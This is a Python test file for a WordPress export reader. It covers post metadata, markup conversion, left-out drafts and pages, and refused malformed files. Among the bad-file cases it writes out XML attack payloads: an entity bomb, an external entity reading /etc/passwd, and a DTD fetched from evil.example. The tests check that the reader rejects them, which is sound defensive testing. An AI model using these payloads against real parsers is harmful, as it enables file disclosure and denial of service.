"""Exports of WordPress."""

import pytest

from archive.text.formats.registry import read_stored
from archive.text.formats.tables.columns import Columns
from archive.text.formats.wordpress.wordpress_markup import html_of_post, read_footnotes
from archive.text.markup.footnotes import endnotes, noteref
from tests.text.formats.reading import FIXTURES, HEADER, MORE, NAMES, PROSE, read, reasons

TEXT = f"{HEADER}\n\n{PROSE}\n\n{MORE}"
AUTHORS = (
    "<wp:author><wp:author_login>vale</wp:author_login><wp:author_display_name>vale</wp:author_display_name>"
    "<wp:author_first_name>Anna</wp:author_first_name><wp:author_last_name>Vale</wp:author_last_name></wp:author>"
)


def post(text=TEXT, more="", number=7, status="publish", kind="post", title="Toll Doubled"):
    return (
        f"<item><title>{title}</title><content:encoded><![CDATA[{text}]]></content:encoded>"
        f"<wp:post_id>{number}</wp:post_id><wp:status>{status}</wp:status><wp:post_type>{kind}</wp:post_type>{more}</item>"
    )


def export(*posts, version="1.2", declaration=""):
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{declaration}\n<rss xmlns:wp="http://wordpress.org/export/{version}/" '
        f'xmlns:excerpt="http://wordpress.org/export/{version}/excerpt/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        f'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>{AUTHORS}\n'
        + "\n".join(posts)
        + "</channel></rss>"
    )


def read_post(*arguments, columns=Columns(), **more):  # noqa: B008 (it holds nothing)
    (record,), problems = read("a.xml", export(post(*arguments, **more)), columns)
    return record.article, problems


def meta(**values):
    return "".join(
        f"<wp:postmeta><wp:meta_key>{key}</wp:meta_key><wp:meta_value>{value}</wp:meta_value></wp:postmeta>"
        for key, value in values.items()
    )


def term(taxonomy, name):
    return f'<category domain="{taxonomy}" nicename="x"><![CDATA[{name}]]></category>'


ISSUE = meta(volume="5", issue="22") + term("category", "Narrows Weekly")
POSTS = [
    # text, further elements, what it says
    (TEXT, "", {"publication": "Narrows Weekly", "volume": 5, "number": "22", "title": "Toll Doubled"}),
    (PROSE, ISSUE, {"publication": "Narrows Weekly", "volume": 5, "number": "22"}),
    (
        PROSE,
        term("category", "NW") + term("volume", "Volume 5") + term("issue", "No. 22"),
        {"volume": 5, "number": "22"},
    ),
    (PROSE, term("category", "NW") + term("post_tag", "Volume 5") + term("post_tag", "Issue 22"), {"number": "22"}),
    (PROSE, term("category", "Narrows Weekly Volume 5 Issue 22"), {"publication": "Narrows Weekly", "volume": 5}),
    (TEXT, term("category", "Narrows Weekly") + term("post_tag", "ferries"), {"topics": ["ferries"]}),
    (TEXT, term("category", "Uncategorized"), {"topics": []}),
    (TEXT, term("author", "Anna Vale") + term("author", "Ivo Marsh"), {"authors": ["Anna Vale", "Ivo Marsh"]}),
    (TEXT, "<dc:creator>vale</dc:creator>", {"authors": ["Anna Vale"]}),
    (TEXT, "<dc:creator>admin</dc:creator>", {"authors": []}),
    (f"{HEADER}\nBy: Ivo Marsh\n\n{PROSE}", "<dc:creator>vale</dc:creator>", {"authors": ["Ivo Marsh"]}),
    (TEXT, "<wp:post_date>2003-05-30 08:00:00</wp:post_date>", {"date": "2003-05-30"}),
    (TEXT, "<wp:post_date>0000-00-00 00:00:00</wp:post_date>", {"date": None}),
    (f"{HEADER}\nMay 29, 2003\n\n{PROSE}", "<wp:post_date>2003-05-30 08:00:00</wp:post_date>", {"date": "2003-05-29"}),
    (TEXT, "<link>https://lantern.example/a</link>", {"url": "https://lantern.example/a"}),
    (TEXT, "<excerpt:encoded><![CDATA[<p>Twice.</p>]]></excerpt:encoded>", {"standfirst": "Twice."}),
]


@pytest.mark.parametrize(("text", "more", "says"), POSTS)
def test_posts(text, more, says):
    article, _ = read_post(text, more)
    found = {name: getattr(article, name) for name in says}
    if found.get("date"):
        found["date"] = article.date.first.isoformat()
    assert found == says
    assert article.body_paragraphs[0] == PROSE
    assert article.errors == []


def test_columns_say_which_custom_fields_and_taxonomies_are_read():
    columns = Columns({"meta:vol": "volume", "taxonomy:number in year": "number"}, {"publication": "NW"})
    article, _ = read_post(PROSE, meta(vol="5") + term("number_in_year", "22"), columns=columns)
    assert (article.publication, article.volume, article.number) == ("Narrows Weekly", 5, "22")


def test_custom_fields_that_are_not_used_are_named():
    _, problems = read_post(more=meta(shelf="C 114", _edit_last="1") + term("region", "Hask"))
    assert (
        reasons(problems) == "Left out: terms of the taxonomy “region” (1: Hask). Left out: custom fields (1: shelf)."
    )


PIER = '<figure><figcaption><a href="https://a.example/pier.jpg">Picture: A pier</a></figcaption></figure>'
MARKUP = [
    ("One\n\nTwo", "<p>One</p><p>Two</p>"),
    ("One\ntwo", "<p>One<br>two</p>"),
    ("One\r\n\r\nTwo", "<p>One</p><p>Two</p>"),
    ("<h2>One</h2>\nTwo\n<ul>\n<li>a</li>\n</ul>", "<h2>One</h2><p>Two</p><ul><li>a</li></ul>"),
    ("<!-- wp:paragraph -->\n<p>One\ntwo</p>\n<!-- /wp:paragraph -->", "<p>One two</p>"),
    ("<!--more-->One", "<p>One</p>"),
    ('[caption id="a" width="9"]<img src="/a.jpg" /> The bar[/caption]\n\nOne',
     "<figure><figcaption>The bar</figcaption></figure><p>One</p>"),
    ('[caption id="a"]<a href="https://a.example/pier.jpg"><img src="https://a.example/pier-30.jpg" alt="A pier" /></a>'
     " The bar[/caption]\n\nOne",
     f"{PIER.replace('A pier', 'The bar')}<p>One</p>"),
    ('One <img src="https://a.example/pier.jpg" alt="A pier"> two',
     f"<p>One two</p>{PIER}"),
    ("One [gallery ids=\"1,2\"] two", "<p>One two</p>"),
    ("It was [sic] two.", "<p>It was [sic] two.</p>"),
    ('<a href="/a">One</a>', "<p>One</p>"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "html"), MARKUP)
def test_markup(text, html):
    article, _ = read_post(f"{text}\n\n<p>{MORE}</p>", ISSUE)
    if article.caption:
        article.body_html = f"<figure><figcaption>{article.caption}</figcaption></figure>{article.body_html}"
    assert article.body_html.replace("\n", "") == f"{html}<p>{MORE}</p>"


def test_media_are_reported():
    _, media, _ = html_of_post(
        '<img src="a/ferry.jpg">[embed]https://film.example/1[/embed]<iframe src="https://x.example/y">'
    )
    assert media == ["embedded page: https://film.example/1", "picture: ferry.jpg", "embedded page: y"]


LEFT_OUT = [
    ({"status": "draft"}, "drafts"),
    ({"status": "private"}, "private posts"),
    ({"status": "future"}, "posts that are scheduled"),
    ({"status": "trash"}, "posts in the trash"),
    ({"status": "in-progress"}, "posts with the status “in-progress”"),
    ({"more": "<wp:post_password>x</wp:post_password>"}, "posts with a password"),
    ({"kind": "page"}, "pages"),
    ({"kind": "attachment", "status": "inherit"}, "attachments"),
    ({"kind": "nav_menu_item"}, "menu entries"),
    ({"kind": "wp_block"}, "reusable blocks"),
    ({"kind": "wp_navigation"}, "menus"),
    ({"kind": "wp_template"}, "templates"),
    ({"kind": "weekly_article"}, "posts of the type “weekly_article”"),
    ({"kind": ""}, "posts without a type"),
    ({"status": "pending"}, "posts that wait for review"),
    ({"status": "auto-draft"}, "drafts"),
    ({"status": "inherit"}, "revisions"),
    ({"status": "brewing"}, "posts with a status that is not known, “brewing”"),
    ({"status": ""}, "posts without a status"),
    ({"more": "<wp:status>draft</wp:status>"}, "drafts"),
    ({"more": "<wp:post_date>2999-01-01 08:00:00</wp:post_date>"}, "posts that are scheduled"),
    ({"more": "<wp:post_date_gmt>2999-01-01 08:00:00</wp:post_date_gmt>"}, "posts that are scheduled"),
    ({"more": "<pubDate>Tue, 01 Jan 2999 08:00:00 +0000</pubDate>"}, "posts that are scheduled"),
    ({"more": "<wp:post_date_gmt>2004-01-01 08:00:00</wp:post_date_gmt><wp:post_date>2999-01-01</wp:post_date>"},
     "posts that are scheduled"),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "what"), LEFT_OUT)
def test_what_is_no_published_article_is_left_out_and_counted(kind, what):
    records, problems = read("a.xml", export(post(), post(number=8, **kind)))
    assert [record.id for record in records] == ["post-7"]
    assert reasons(problems) == f"Left out: {what} (1: post-8)."
    assert problems[0].remedy


def test_a_sticky_post_is_an_article():
    article, problems = read_post(more="<wp:is_sticky>1</wp:is_sticky><wp:post_password></wp:post_password>")
    assert (article.errors, article.unpublished, problems) == ([], None, [])


NAMESPACES = [
    "https://wordpress.org/export/1.2/",
    "https://www.wordpress.org/export/1.2",
    "http://wordpress.org/export/1.0/",
    "http://wordpress.org/export/1.3/",
    "https://wordpress.org/export/2.0/",
]


@pytest.mark.parametrize("namespace", NAMESPACES)
def test_namespaces_are_known_by_their_path(namespace):
    posts = [
        post(more="<dc:creator>vale</dc:creator><excerpt:encoded>Twice.</excerpt:encoded>"),
        post(number=8, status="draft"),
        post(number=9, more="<wp:post_password>x</wp:post_password>"),
        post(number=10, kind="page"),
    ]
    content = export(*posts).replace("http://wordpress.org/export/1.2/excerpt/", f"{namespace.rstrip('/')}/excerpt")
    content = content.replace("http://wordpress.org/export/1.2/", namespace)
    content = content.replace("http://purl.org/dc/elements/1.1/", "https://purl.org/dc/elements/1.1")
    content = content.replace("http://purl.org/rss/1.0/modules/content/", "https://purl.org/rss/1.0/modules/content")
    (record,), problems = read("a.xml", content)
    assert record.id == "post-7"
    assert (record.article.authors, record.article.standfirst) == (["Anna Vale"], "Twice.")
    assert reasons(problems) == (
        "Left out: drafts (1: post-8). Left out: posts with a password (1: post-9). Left out: pages (1: post-10)."
    )


def test_the_prefix_may_be_another():
    content = export(post(), post(number=8, status="draft"))
    records, _ = read("a.xml", content.replace("wp:", "press:").replace("xmlns:wp=", "xmlns:press="))
    assert [record.id for record in records] == ["post-7"]


UNKNOWN = [
    ("http://wordpress.org/export/1.2/", "http://wordpress.org/export/9.1/", "in a namespace that is not known, “http"),
    ("http://wordpress.org/export/1.2/", "urn:other", "in a namespace that is not known, “urn:other”"),
    ("<channel>", "<channel><wp:wxr_version>9.1</wp:wxr_version>", "a version of the format that is not known, “9.1”"),
    ("<wp:status>publish</wp:status>", "<status>publish</status>", "posts without a status"),
    ("<wp:status>publish</wp:status>", "", "posts without a status"),
    ("<wp:post_type>post</wp:post_type>", "", "posts without a type"),
]


@pytest.mark.parametrize(("old", "new", "what"), UNKNOWN)
def test_what_is_not_known_to_be_published_is_left_out(old, new, what):
    records, problems = read("a.xml", export(post()).replace(old, new))
    assert records == []
    assert what in reasons(problems)
    assert all(problem.remedy for problem in problems)


def test_what_is_stored_of_a_post_is_read_whatever_it_says_today():
    stored = export(post(status="draft")).encode()
    assert read_stored("a.xml#post-7", stored, NAMES).body_paragraphs[0] == PROSE


def test_a_prefix_without_a_namespace_is_refused_with_what_to_do():
    records, problems = read("a.xml", export(post()).replace('xmlns:wp="http://wordpress.org/export/1.2/"', ""))
    assert records == []
    assert "a namespace that it does not declare" in reasons(problems, "error")
    assert "xmlns:wp" in problems[0].remedy


FIELDS = [
    (meta(embargo="2999-01-01"), True),
    (meta(embargo="2004-01-01"), False),
    (meta(visibility="members"), True),
    (meta(_jetpack_newsletter_access="paid_subscribers"), True),
    (meta(_jetpack_newsletter_access="everybody"), False),
    (meta(status="proofread twice"), False),
    (meta(_draft="true"), False),
]


@pytest.mark.parametrize(("more", "is_left_out"), FIELDS)
def test_custom_fields_may_keep_a_post_back(more, is_left_out):
    article, _ = read_post(more=more)
    assert bool(article.unpublished) is is_left_out
    assert article.errors == []


def test_a_custom_field_that_is_named_in_columns_toml_is_the_status():
    columns = Columns({"meta:desk": "status"})
    assert read_post(more=meta(desk="published"), columns=columns)[0].errors == []
    assert "does not say" in reasons(read_post(more=meta(desk="brewing"), columns=columns)[0].errors)


def test_comments_are_counted():
    _, problems = read_post(more="<wp:comment><wp:comment_content>First!</wp:comment_content></wp:comment>" * 3)
    assert reasons(problems) == "Left out: readers’ comments (3)."


@pytest.mark.parametrize("version", ["1.0", "1.1", "1.2", "1.3", "2.0"])
def test_all_versions_of_the_format(version):
    records, _ = read("a.xml", export(post(), version=version))
    assert [record.id for record in records] == ["post-7"]


def test_a_type_of_a_plugin_is_an_article_where_columns_toml_says_so():
    columns = Columns({"post type:weekly article": "body"})
    assert read_post(kind="weekly_article", columns=columns)[0].errors == []


def test_a_record_has_the_line_where_it_begins():
    records, _ = read("a.xml", export(post(), post(number=8)))
    assert [record.line for record in records] == [3, 6 + 2]


def test_control_characters_are_left_out_and_counted():
    records, problems = read("a.xml", export(post(TEXT.replace("ferry", "fer\x0bry"))))
    assert records[0].article.body_paragraphs[0] == PROSE
    assert reasons(problems) == "1 control characters, which XML must not hold, were left out."


def test_the_same_id_again_is_refused():
    records, _ = read("a.xml", export(post(), post(text=f"{HEADER}\n\n{MORE}")))
    assert records[0].article.errors == []
    assert "has the same id, “post-7”" in reasons(records[1].article.errors)


def test_a_post_without_an_issue_is_refused_with_what_to_do():
    article, _ = read_post(PROSE)
    (problem,) = article.errors
    assert "columns.toml" in problem.remedy
    assert problem.line == 3


ENTITY = '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
EXTERNAL = '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE rss [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>'
BAD = {
    "empty": (b"", "cut off"),
    "no XML": (b"Publication: Narrows Weekly", "no well-formed XML"),
    "other XML": (b"<list><body/></list>", "<list>, holds no articles"),
    "empty export": (export().encode(), "<rss>, holds no articles"),
    "a bomb of entities": (export(post("x", title="&b;"), declaration=ENTITY).encode(), "declares an entity"),
    "a file as an entity": (export(post(title="&a;"), declaration=EXTERNAL).encode(), "declares an entity"),
    "a DTD elsewhere": (export(post(), declaration=PARAMETER).encode(), "declares an entity"),
    "deep": (export("<item>" + "<a>" * 300 + "</a>" * 300 + "</item>").encode(), "nests more than 200"),
    "wrong encoding": (export(post(title="Övermar")).encode("cp1252"), "another encoding than the file says"),
    "unknown encoding": (export().replace("UTF-8", "klingon").encode(), "encoding"),
    "an endless tag": (b"<rss><a b='" + b"x" * 7_000_000, "tag or comment of more than 5 MB"),
    "a bare ampersand": (export(post(title="Toll & Bar")).encode(), "bare &"),
}


@pytest.mark.parametrize("name", BAD)
def test_bad_files(name):
    content, reason = BAD[name]
    records, problems = read("a.xml", content)
    assert records == []
    assert reason in reasons(problems, "error")
    assert all(problem.remedy for problem in problems)


def test_what_is_whole_before_the_end_of_a_cut_off_export_is_read():
    whole = export(post(), post(number=8))
    records, problems = read("a.xml", whole[: whole.index("<wp:post_id>8")])
    assert [record.id for record in records] == ["post-7"]
    assert "cut off" in reasons(problems, "error")


def test_a_post_that_is_too_large_is_refused_alone():
    records, _ = read("a.xml", export(post("x" * 5_100_000), post(number=8)))
    assert [bool(record.article.errors) for record in records] == [True, False]


def test_the_example():
    records, problems = read("a.xml", (FIXTURES / "narrows-weekly-wordpress.xml").read_bytes())
    assert [(record.id, record.article.number, record.article.errors) for record in records] == [
        ("post-311", "24", []),
        ("post-312", "24", []),
    ]
    assert "drafts (1: post-313)" in reasons(problems)


def test_entities_in_cdata_are_decoded():
    title = "<![CDATA[Nets &amp; <em>Lines</em> &#8211; part 2]]>"
    article, _ = read_post(
        PROSE, ISSUE + term("category", "Arts &amp; Letters") + term("post_tag", "Oats, rye"), title=title
    )
    assert article.title == "Nets & Lines – part 2"
    assert article.topics == ["Arts & Letters", "Oats, rye"]


def test_entities_in_a_creators_name_are_decoded():
    creator = "<dc:creator><![CDATA[Ana &amp;Brod O&#8217;Vale]]></dc:creator>"
    article, _ = read_post(PROSE, ISSUE + creator)
    assert article.authors == ["Ana &Brod O’Vale"]


@pytest.mark.parametrize("address", ["https://wordpress.org/export/1.2/", "https://wordpress.org/export/1.2"])
def test_namespaces_with_https_are_the_same(address):
    draft = export(post(), post(status="draft", number=8)).replace('http://wordpress.org/export/1.2/"', f'{address}"')
    records, problems = read("a.xml", draft)
    assert [record.id for record in records] == ["post-7"]
    assert "drafts (1: post-8)" in reasons(problems)


def test_shortcodes_are_told_once_and_their_text_is_kept():
    content = f'{TEXT}\n\n[box color="red"]The [sic] toll[/box] [form-7 id="3"]<!-- wp:latest-posts {{"a":1}} /-->'
    records, problems = read("a.xml", export(post(content, number=1), post(content, number=2)))
    assert "The [sic] toll" in records[0].article.body_html
    assert "[box" not in records[0].article.body_html
    shown = [problem.reason for problem in problems if "shortcodes" in problem.reason]
    assert shown == ["Left out: shortcodes and blocks that a plugin or theme fills (6: box, form-7, latest-posts)."]


def test_footnotes_of_the_block_editor_come_from_their_custom_field():
    text = f'<!-- wp:paragraph --><p>{PROSE}<sup data-fn="6f" class="fn"><a href="#6f" id="6f-link">1</a></sup></p>'
    text += f"<!-- /wp:paragraph --><p>{MORE}</p><!-- wp:footnotes /-->"
    notes = meta(footnotes='<![CDATA[[{"content":"Its keeper <em>said</em> so.","id":"6f"}]]]>')
    read_in, problems = read_post(text, ISSUE + notes)
    assert read_in.body_html.startswith(f"<p>{PROSE}{noteref(1)}</p>")
    assert read_in.body_html.endswith(endnotes(["Its keeper <em>said</em> so."]))
    assert "footnotes" not in reasons(problems)


@pytest.mark.parametrize("value", ["", "[", "[1]", '[{"id": 1}]', "{}", "[" * 9_000])
def test_broken_footnotes_are_none(value):
    assert read_footnotes(value) == ""
